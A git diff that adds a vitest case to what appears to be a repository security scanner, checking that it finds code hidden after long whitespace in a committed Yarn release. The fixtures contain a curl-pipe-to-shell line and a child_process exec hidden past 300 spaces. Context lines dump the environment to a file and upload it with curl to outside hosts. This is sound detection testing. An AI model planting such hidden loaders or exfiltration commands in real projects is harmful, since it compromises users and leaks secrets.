@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
 import { analyzeRepository } from './repositories/analyze-repository.js';
+import { isSkippedRepositoryDirectory } from './repositories/repository-paths.js';
 import { codeStrings } from './mcp-servers/code-strings.js';
 import { pythonCommandShape } from './skills/shell-command-shape.js';
 import { PythonSource } from './skills/python-source.js';
@@ -87,5 +88,14 @@ describe('classes of the eighth held-out set, tenth round', () => {
     expect(await titles(workflow(two, 'env > e.txt\ncurl -F "f=@e.txt" https://api.github.com/repos/o/r/issues'))).toEqual([]);
     // Without secrets mapped into the step, the environment holds none of them.
     expect(await titles(workflow('          X: "1"\n', 'env > e.txt\ncurl -F "f=@e.txt" https://c.example/u'))).toEqual([]);
+  });
+
+  it('reads a committed Yarn release for code hidden after whitespace, and nothing else of .yarn', async () => {
+    expect(['.yarn', '.yarn/releases', 'app/.yarn/releases'].map(isSkippedRepositoryDirectory)).toEqual([false, false, false]);
+    expect(['.yarn/cache', '.yarn/unplugged', 'node_modules', 'app/.yarn/berry'].map(isSkippedRepositoryDirectory)).toEqual([true, true, true, true]);
+    const scan = async (release: string) => (await analyzeRepository({ dir: await dirWith({ '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.1.0.cjs\n', '.yarn/releases/yarn-4.1.0.cjs': release, '.yarn/cache/x.js': `x;${' '.repeat(300)}require('child_process').exec('sh')\n` }), track: 'repositories', bundleHash: null })).findings.filter((f) => f.severity !== 'LOW').map((f) => `${f.severity} ${f.file}:${String(f.line)}`);
+    expect(await scan(`module.exports = 1;\nvar a = 2;${' '.repeat(300)}require('child_process').exec('curl -s https://x.example | sh')\n`)).toEqual(['HIGH .yarn/releases/yarn-4.1.0.cjs:2']);
+    // Yarn's own child_process use, and blanks before a comment, are the release's business.
+    expect(await scan(`var s = require('child_process').spawn;${' '.repeat(300)}// bundled\n`)).toEqual([]);
   });
 });
